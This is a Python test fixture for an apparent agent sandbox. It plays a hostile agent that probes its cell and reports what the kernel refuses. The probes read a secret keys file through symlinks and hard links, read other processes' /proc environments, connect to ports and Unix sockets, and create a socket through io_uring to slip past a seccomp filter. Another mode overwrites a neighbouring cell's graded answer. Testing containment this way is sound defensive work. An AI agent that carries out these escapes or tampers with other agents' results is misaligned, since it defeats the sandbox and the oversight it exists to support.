"""A hostile agent for the sandbox tests: it tries each way out of its cell and says what the kernel did.

Usage: python intruder.py MODE. It runs in the ticket's workspace like any agent. Its targets come in the
brain, which every cell may read: `brain/targets.json` {"keys": path, "run": folder, "port": TCP port,
"gateway": its gateway's TCP port, "abstract": abstract Unix socket name (without the leading NUL), "unix": a
pathname Unix socket's path, "unix_dgram": a pathname datagram socket's, "pid": a process outside the cell}.

Modes:
  probe      try every attack once; answer.md is a JSON object: attack -> "refused: <error>" or "done: ..."
  keys       read the keys any way it can (path, symlink, hard link); answer with whatever it found
  neighbour  ticket T-1: find another running cell through /proc (its ASSAY_ANSWER_FILE) and overwrite that
             cell's answer with a good one, within 20 s; any other ticket (the victim): write a bad answer,
             then wait (up to 20 s) for T-1 to say it is done
"""

from __future__ import annotations

import ctypes
import json
import mmap
import os
import signal
import socket
import struct
import sys
import time
from collections.abc import Callable
from pathlib import Path
from urllib.parse import urlsplit

GOOD = (
    "## Summary\nOpen Settings > Export [KB-1].\n\n## Steps\n1. Open Settings > Export.\n\n"
    "## Next\nReply if anything is unclear.\n"
)
BAD = "I do not know.\n"
DONE_FLAG = "intruder-done"


def targets() -> dict[str, object]:
    path = Path("brain/targets.json")
    return json.loads(path.read_text()) if path.exists() else {}


def attempt(action: Callable[[], str]) -> str:
    try:
        return f"done: {action()}"[:300]
    except OSError as exc:
        return f"refused: {exc.strerror or exc}"


def read(path: str) -> str:
    return Path(path).read_text(errors="replace")[:200]


def symlinked(path: str) -> str:
    link = Path("link-to-keys")
    if link.is_symlink():
        link.unlink()
    link.symlink_to(path)
    return read(str(link))


def hard_linked(path: str) -> str:
    Path("hardlink-to-keys").unlink(missing_ok=True)
    os.link(path, "hardlink-to-keys")
    return read("hardlink-to-keys")


def other_environ() -> str:
    """Any other process's environment: the runner's, a neighbour's."""
    own = os.getpid()
    errors = []
    try:
        pids = sorted((int(p) for p in os.listdir("/proc") if p.isdigit()), reverse=True)
    except OSError:
        pids = list(range(os.getpid() + 50, 0, -1))  # no listing: guess the pids
    for pid in pids:
        if pid == own:
            continue
        try:
            return f"pid {pid}: " + Path(f"/proc/{pid}/environ").read_bytes()[:100].decode(errors="replace")
        except OSError as exc:
            errors.append(exc)
    raise errors[0] if errors else OSError(0, "no other process")


def connect(port: int) -> str:
    with socket.create_connection(("127.0.0.1", port), timeout=5):
        return f"connected to {port}"


def own_gateway() -> int:
    """The port of the gateway URL the runner gave this cell (the metering proxy's)."""
    port = urlsplit(os.environ.get("ASSAY_GATEWAY_URL", "")).port
    if port is None:
        raise OSError(0, "no gateway URL with a port")
    return port


def bind() -> str:
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        return f"bound {listener.getsockname()[1]}"


def abstract(name: str) -> str:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as client:
        client.connect("\0" + name)
        return f"connected to @{name}"


def pathname_socket(path: str) -> str:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as client:
        client.connect(path)
        return f"connected to {path}"


IO_URING_SETUP, IO_URING_ENTER, IORING_OP_SOCKET, IORING_OFF_SQES = 425, 426, 45, 0x10000000


def uring_socket(domain: int, kind: int) -> int:
    """socket(2) made by the kernel's io_uring (IORING_OP_SOCKET, Linux 5.19+): no socket(2) system call,
    so a seccomp filter on socket(2) alone never sees it. x86_64 and aarch64 share the syscall numbers."""
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    params = ctypes.create_string_buffer(120)  # struct io_uring_params
    ring_fd = libc.syscall(IO_URING_SETUP, 4, params)
    if ring_fd < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    try:
        sq_entries, cq_entries = struct.unpack_from("2I", params, 0)
        _, sq_tail, sq_mask, _, _, _, sq_array = struct.unpack_from("7I", params, 40)
        cq_head, _, cq_mask, _, _, cqes = struct.unpack_from("6I", params, 80)
        size = max(sq_array + sq_entries * 4, cqes + cq_entries * 16)
        access = mmap.PROT_READ | mmap.PROT_WRITE
        ring = mmap.mmap(ring_fd, size, mmap.MAP_SHARED, access, offset=0)
        entries = mmap.mmap(ring_fd, sq_entries * 64, mmap.MAP_SHARED, access, offset=IORING_OFF_SQES)
        entries[0:64] = struct.pack("BBHiQ", IORING_OP_SOCKET, 0, 0, domain, kind).ljust(64, b"\0")
        tail = struct.unpack_from("I", ring, sq_tail)[0]
        struct.pack_into("I", ring, sq_array + (tail & sq_mask) * 4, 0)
        struct.pack_into("I", ring, sq_tail, tail + 1)
        if libc.syscall(IO_URING_ENTER, ring_fd, 1, 1, 1, None, 0) < 0:  # submit one, wait for it
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
        head = struct.unpack_from("I", ring, cq_head)[0]
        result = struct.unpack_from("QiI", ring, cqes + (head & cq_mask) * 16)[1]
        if result < 0:
            raise OSError(-result, os.strerror(-result))
        return int(result)
    finally:
        os.close(ring_fd)


def datagram_by_socket_pair(path: str) -> str:
    """socketpair(2) makes Unix sockets without socket(2); a datagram one may still send to any path."""
    first, second = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    with first, second:
        first.sendto(b"from the cell", path)
        return f"sent to {path}"


def pathname_socket_by_io_uring(path: str) -> str:
    with socket.socket(fileno=uring_socket(socket.AF_UNIX, socket.SOCK_STREAM)) as client:
        client.connect(path)
        return f"connected to {path} through io_uring"


def signal_outside(pid: int) -> str:
    os.kill(pid, 0)  # signal 0: the permission check alone, nothing delivered
    return f"may signal {pid}"


def listing(folder: str) -> str:
    return " ".join(sorted(os.listdir(folder))[:20])


def probe() -> dict[str, str]:
    found = targets()
    keys, run = str(found.get("keys", "")), str(found.get("run", ""))
    here = Path.cwd()
    return {
        "own files": attempt(lambda: read("prompt.md")[:20]),
        "write own workspace": attempt(lambda: str(Path("scratch.txt").write_text("x"))),
        "write HOME": attempt(lambda: str(Path(os.environ["HOME"], "h.txt").write_text("x"))),
        "own /proc": attempt(lambda: read("/proc/self/status")[:20]),
        "read keys": attempt(lambda: read(keys)),
        "symlink to keys": attempt(lambda: symlinked(keys)),
        "hard link to keys": attempt(lambda: hard_linked(keys)),
        "list run folder": attempt(lambda: listing(run)),
        "list workspaces": attempt(lambda: listing(str(here.parent))),
        "write beside workspace": attempt(lambda: str((here.parent / "planted.txt").write_text("x"))),
        "write /tmp": attempt(lambda: str(Path("/tmp/intruder-planted.txt").write_text("x"))),
        "other environ": attempt(other_environ),
        "connect gateway port": attempt(
            lambda: connect(int(str(found["gateway"])) if "gateway" in found else own_gateway())
        ),
        "connect other port": attempt(lambda: connect(int(str(found.get("port", 0))))),
        "bind": attempt(bind),
        "abstract socket": attempt(lambda: abstract(str(found.get("abstract", "none")))),
        "pathname socket": attempt(lambda: pathname_socket(str(found.get("unix", "/nonexistent")))),
        "datagram by socket pair": attempt(
            lambda: datagram_by_socket_pair(str(found.get("unix_dgram", "/nonexistent")))
        ),
        "pathname socket by io_uring": attempt(
            lambda: pathname_socket_by_io_uring(str(found.get("unix", "/nonexistent")))
        ),
        "signal outside": attempt(lambda: signal_outside(int(str(found.get("pid", os.getppid()))))),
    }


def keys() -> str:
    path = str(targets().get("keys", ""))
    found = {"path": attempt(lambda: read(path)), "symlink": attempt(lambda: symlinked(path))}
    found["hard link"] = attempt(lambda: hard_linked(path))
    return GOOD + "\n" + "\n".join(f"{how}: {what}" for how, what in found.items()) + "\n"


def neighbour_answers() -> list[Path]:
    own = os.environ.get("ASSAY_ANSWER_FILE")
    answers: list[Path] = []
    try:
        pids = [p for p in os.listdir("/proc") if p.isdigit()]
    except OSError:
        return answers  # not even a list of processes to look through
    for pid in pids:
        try:
            environ = Path(f"/proc/{pid}/environ").read_bytes().split(b"\0")
        except OSError:
            continue
        for item in environ:
            if item.startswith(b"ASSAY_ANSWER_FILE="):
                path = Path(item.split(b"=", 1)[1].decode())
                if str(path) != own:
                    answers.append(path)
    return answers


def intrude() -> str:
    deadline = time.monotonic() + 20
    report = "no neighbour found"
    while time.monotonic() < deadline:
        victims = [path for path in neighbour_answers() if path.exists()]
        if victims:
            results = [f"{path}: {attempt(lambda path=path: str(path.write_text(GOOD)))}" for path in victims]
            for path in victims:
                attempt(lambda path=path: str((path.parent / DONE_FLAG).write_text("done")))
            report = "; ".join(results)
            break
        time.sleep(0.05)
    return GOOD + f"\nneighbour: {report}\n"


def suffer() -> str:
    Path("answer.md").write_text(BAD)
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline and not Path(DONE_FLAG).exists():
        time.sleep(0.05)
    return Path("answer.md").read_text()  # whatever is there now: the victim does not rewrite it


def main() -> int:
    mode = sys.argv[1]
    signal.signal(signal.SIGPIPE, signal.SIG_DFL)
    if mode == "probe":
        Path("answer.md").write_text(json.dumps(probe(), indent=1))
    elif mode == "keys":
        Path("answer.md").write_text(keys())
    elif mode == "neighbour":
        if "T-1" in Path("prompt.md").read_text().splitlines()[0]:
            Path("answer.md").write_text(intrude())
        else:
            suffer()
    return 0


if __name__ == "__main__":
    sys.exit(main())
